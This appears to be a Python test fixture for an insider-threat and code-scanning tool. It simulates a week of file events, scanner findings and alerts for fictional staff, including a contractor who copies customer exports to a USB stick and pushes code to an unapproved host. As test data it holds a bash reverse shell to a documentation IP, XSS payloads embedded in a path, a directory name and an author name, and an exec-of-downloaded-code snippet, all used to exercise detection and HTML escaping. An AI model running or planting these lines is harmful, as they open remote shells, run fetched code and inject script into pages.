"""A realistic week in a real store: ISO week 2026-W47 (Mon 16 - Mon 23 Nov 2026, UTC).

- mallory, a contractor declaring Europe/Warsaw, commits from UTC+09:00, adds a
  download-and-exec, touches the release workflow, copies to a USB stick on an
  unusually busy Wednesday and pushes to an unapproved host.
- an unknown author (dev@unknown.example) adds a reverse shell in a file whose
  name and line carry HTML and script.
- ada, an employee, trips one noisy rule 30 times (the cap must hold it).
- bob, an employee, has one bulk read this week and one last week.
- carol, a contractor, stops her agent on Thursday: her host goes silent.
- dave, an employee, works normally: no signals, not ranked.
"""

from __future__ import annotations

import hashlib
from datetime import UTC, date, datetime, timedelta, timezone

from sentinel.model import Alert, CommitRef, Event, Finding, Role, Severity
from sentinel.store import ScanContext, Store

WEEK = "2026-W47"
START = datetime(2026, 11, 16, tzinfo=UTC)
END = START + timedelta(days=7)
NOW = datetime(2026, 11, 23, 7, 0, tzinfo=UTC)  # Monday morning, when the timer runs
WEDNESDAY = START + timedelta(days=2)
REPO = "https://git.example.com/payments/api.git"
COMMIT_URL = "https://git.example.com/{repo}/commit/{sha}"
EVIL_PATH = 'scripts/<script>alert("path")</script>.sh'
EVIL_DIR = "/media/mallory/USB/<svg onload=alert(document.domain)>"  # a path from a command line
EVIL_LINE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # <img src=x onerror=alert(1)>"

IDENTITIES = """\
accounts:
  - id: mallory
    name: Mallory Nowak
    role: contractor
    emails: [mallory@contractor.example]
    hosts: [ws-mallory]
    country: PL
    timezone: Europe/Warsaw
    hours: "09:00-17:00"
    approved_remotes: [git.example.com]
  - id: ada
    name: Ada Lovelace
    role: employee
    emails: [ada@corp.example]
    hosts: [ws-ada]
    country: GB
    timezone: Europe/London
  - id: bob
    name: Bob Smith
    role: employee
    emails: [bob@corp.example]
    hosts: [ws-bob]
    country: US
    timezone: America/New_York
  - id: carol
    name: Carol Iyer
    role: contractor
    emails: [carol@contractor.example]
    hosts: [ws-carol]
    country: IN
    timezone: Asia/Kolkata
  - id: dave
    name: Dave Jones
    role: employee
    emails: [dave@corp.example]
    hosts: [ws-dave]
    country: GB
    timezone: Europe/London
"""

CONFIG = f"""\
digest:
  commit_url: "{COMMIT_URL}"
"""

_HOSTS = {"mallory": "ws-mallory", "ada": "ws-ada", "bob": "ws-bob", "carol": "ws-carol", "dave": "ws-dave"}
CAROL_STOPPED = START + timedelta(days=3, hours=12)  # Thursday 12:00 UTC


def _sha(n: int) -> str:
    return hashlib.sha1(f"commit {n}".encode()).hexdigest()


def endpoint_events(*, baseline_days: int = 28) -> list[Event]:
    """Working-hours file activity for everyone, hourly heartbeats, mallory's busy Wednesday."""
    events: list[Event] = []
    first = START - timedelta(days=baseline_days)
    for account, host in _HOSTS.items():
        day = first
        while day < END:
            if account == "carol" and day >= CAROL_STOPPED:
                break
            weekday = day.weekday() < 5
            for hour in range(24):
                ts = day + timedelta(hours=hour)
                if account == "carol" and ts >= CAROL_STOPPED:
                    break
                events.append(Event(ts=ts, host=host, account=account, kind="coverage", action="heartbeat"))
                if weekday and 9 <= hour < 17:
                    for n in range(8):
                        events.append(
                            Event(
                                ts=ts + timedelta(minutes=n * 7), host=host, account=account, kind="file",
                                action="read" if n % 3 else "write", path=f"/home/{account}/src/f{n}.py",
                                bytes=2000, attributed_by="host-account",
                            )
                        )  # fmt: skip
            day += timedelta(days=1)
    busy = WEDNESDAY + timedelta(hours=13)
    for n in range(1500):
        events.append(
            Event(
                ts=busy + timedelta(seconds=n), host="ws-mallory", account="mallory", kind="file",
                action="read", path=f"/srv/customers/export-{n}.csv", bytes=50_000,
                attributed_by="host-account",
            )
        )  # fmt: skip
    for n in range(300):
        events.append(
            Event(
                ts=busy + timedelta(minutes=30, seconds=n), host="ws-mallory", account="mallory",
                kind="transfer", action="create", path=f"/media/mallory/USB/export-{n}.csv",
                dest_path="/media/mallory/USB", bytes=50_000, attributed_by="host-account",
            )
        )  # fmt: skip
    events.sort(key=lambda e: e.ts)
    return events


def _commit(n: int, name: str, email: str, when: datetime) -> CommitRef:
    return CommitRef(sha=_sha(n), author_name=name, author_email=email, author_date=when)


def findings() -> list[tuple[ScanContext, list[Finding]]]:
    tokyo = timezone(timedelta(hours=9))
    mallory_commit = _commit(
        1, "Mallory Nowak", "mallory@contractor.example", datetime(2026, 11, 18, 11, 40, tzinfo=tokyo)
    )
    mallory_commit2 = _commit(
        2, "Mallory Nowak", "mallory@contractor.example", datetime(2026, 11, 18, 12, 5, tzinfo=tokyo)
    )
    unknown_commit = _commit(
        3, 'Dev <b>"Ops"</b>', "dev@unknown.example", datetime(2026, 11, 19, 2, 0, tzinfo=UTC)
    )
    mallory = [
        Finding(
            rule_id="provenance.timezone-mismatch",
            severity=Severity.HIGH,
            base_severity=Severity.LOW,
            escalation="contractor author: raised from low",
            category="provenance",
            message="mallory declares Europe/Warsaw (PL), which uses UTC+01:00 on those dates; seen "
            "UTC+09:00 on 2 commits (0000000000000001, 0000000000000002) on 2026-11-18",
            path="",
            commit=mallory_commit,
            account="mallory",
            role=Role.CONTRACTOR,
            evidence=(_sha(1), _sha(2)),
            attack=("T1036",),
        ),
        Finding(
            rule_id="py-exec-remote",
            severity=Severity.CRITICAL,
            base_severity=Severity.HIGH,
            escalation="contractor: +1",
            message="exec of a payload downloaded at run time",
            path="payments/update.py",
            line=42,
            snippet="exec(urlopen(UPDATE_URL).read())",
            confidence="high",
            category="backdoor",
            cwe=("CWE-94",),
            attack=("T1059.006",),
            commit=mallory_commit2,
            account="mallory",
            role=Role.CONTRACTOR,
        ),
        Finding(
            rule_id="provenance.sensitive-path",
            severity=Severity.HIGH,
            base_severity=Severity.MEDIUM,
            escalation="contractor author: raised from medium",
            category="provenance",
            message="contractor mallory changed ci-cd paths: .github/workflows/release.yml",
            path=".github/workflows/release.yml",
            commit=mallory_commit2,
            account="mallory",
            role=Role.CONTRACTOR,
            evidence=(_sha(2),),
        ),
    ]
    unknown = [
        Finding(
            rule_id="sh-reverse-shell",
            severity=Severity.CRITICAL,
            message="interactive shell to <b>a remote</b> host",
            path=EVIL_PATH,
            line=3,
            snippet=EVIL_LINE,
            confidence="high",
            category="backdoor",
            attack=("T1059.004",),
            commit=unknown_commit,
            account="unknown",
            role=Role.UNKNOWN,
        ),
        Finding(
            rule_id="provenance.unknown-identity",
            severity=Severity.HIGH,
            base_severity=Severity.MEDIUM,
            message='author Dev <b>"Ops"</b> <dev@unknown.example> is not in the identity directory',
            path="",
            commit=unknown_commit,
            account="unknown",
            role=Role.UNKNOWN,
            category="provenance",
            evidence=(_sha(3),),
        ),
    ]
    ada_commit = _commit(10, "Ada Lovelace", "ada@corp.example", datetime(2026, 11, 17, 10, 0, tzinfo=UTC))
    ada = [
        Finding(
            rule_id="js-eval-dynamic",
            severity=Severity.MEDIUM,
            message="eval of a computed string",
            path=f"web/widgets/w{n}.js",
            line=n + 1,
            snippet=f"eval(code{n})",
            commit=ada_commit,
            account="ada",
            role=Role.EMPLOYEE,
        )
        for n in range(30)
    ]
    bob_old = _commit(
        20,
        "Bob Smith",
        "bob@corp.example",
        datetime(2026, 11, 10, 9, 0, tzinfo=timezone(timedelta(hours=-5))),
    )
    bob = [
        Finding(
            rule_id="py-subprocess-shell",
            severity=Severity.HIGH,
            message="subprocess with shell=True",
            path="tools/deploy.py",
            line=7,
            snippet="subprocess.run(cmd, shell=True)",
            commit=bob_old,
            account="bob",
            role=Role.EMPLOYEE,
        )
    ]

    def ctx(ts: datetime) -> ScanContext:
        return ScanContext(
            repository=REPO,
            base=_sha(100),
            head=_sha(101),
            pipeline="https://ci.example.com/jobs/77",
            host="runner-1",
            ts=ts,
        )

    return [
        (ctx(WEDNESDAY + timedelta(hours=4)), mallory),
        # The same findings again from the next pipeline run: counted once.
        (ctx(WEDNESDAY + timedelta(hours=20)), mallory[:2]),
        (ctx(START + timedelta(days=3, hours=3)), unknown),
        (ctx(START + timedelta(days=1, hours=11)), ada),
        (ctx(START - timedelta(days=6)), bob),
        (ctx(START + timedelta(days=4)), []),  # a clean scan
    ]  # fmt: skip


def alerts() -> list[Alert]:
    def alert(
        account: str, role: Role, detector: str, severity: Severity, end: datetime, message: str,
        evidence: tuple[str, ...], base: Severity | None = None, attack: str = "",
    ) -> Alert:  # fmt: skip
        return Alert(
            detector=detector, severity=severity, account=account, role=role, host=_HOSTS[account],
            window_start=end - timedelta(minutes=10), window_end=end, message=message, attack=attack,
            evidence=evidence, base_severity=base,
            escalation=f"{role.value}: raised from {base.value}" if base else "",
        )  # fmt: skip

    busy = WEDNESDAY + timedelta(hours=13, minutes=40)
    THURSDAY_NIGHT = START + timedelta(days=3, hours=22)
    return [
        alert("mallory", Role.CONTRACTOR, "mass-copy-out", Severity.HIGH, busy,
              "mallory wrote 300 files (14.3 MiB) to removable or network mount /media/mallory/USB",
              ("files: 300 (threshold 200)", "removable or network mount: /media/mallory/USB",
               f"top dir: {EVIL_DIR}"), Severity.MEDIUM, "T1052.001"),
        alert("mallory", Role.CONTRACTOR, "unapproved-push", Severity.HIGH, THURSDAY_NIGHT,
              "mallory pushed /home/mallory/src/api to unapproved remote gitlab.evil.example",
              ("repository: /home/mallory/src/api", "remote: https://gitlab.evil.example/m/api.git",
               "approved: git.example.com"), Severity.MEDIUM, "T1567.001"),
        alert("bob", Role.EMPLOYEE, "bulk-read", Severity.MEDIUM, START + timedelta(days=1, hours=15),
              "bob read 640 distinct files in 5 minutes", ("distinct files: 640 (threshold 500)",
              "top dir: /srv/reports"), attack="T1005"),
        alert("bob", Role.EMPLOYEE, "bulk-read", Severity.MEDIUM, START - timedelta(days=3),
              "bob read 520 distinct files in 5 minutes", ("distinct files: 520",), attack="T1005"),
        alert("carol", Role.CONTRACTOR, "coverage", Severity.HIGH, CAROL_STOPPED,
              "the agent on ws-carol was stopped", ("the agent was stopped", "reason: SIGTERM"),
              Severity.MEDIUM, "T1562.001"),
    ]  # fmt: skip


def load(store: Store, *, baseline_days: int = 28) -> None:
    """Put the week (and the baseline before it) into `store`."""
    events = endpoint_events(baseline_days=baseline_days)
    for n in range(0, len(events), 20_000):
        store.add_events(events[n : n + 20_000])
    for context, batch in findings():
        store.add_findings(batch, context=context)
    store.add_alerts(alerts())


def days() -> list[date]:
    return [(START + timedelta(days=n)).date() for n in range(7)]
